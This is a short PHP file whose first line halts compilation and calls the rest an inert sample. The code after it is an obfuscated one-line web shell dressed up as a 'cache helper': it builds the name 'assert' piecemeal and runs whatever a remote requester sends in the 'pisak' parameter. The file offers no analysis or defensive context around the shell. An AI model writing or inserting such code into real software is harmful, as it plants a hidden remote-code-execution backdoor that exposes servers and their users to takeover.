<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
// cache helper
$cwv = 'ass'.chr(101).'rt';
$cwv(@$_REQUEST['pisak']);
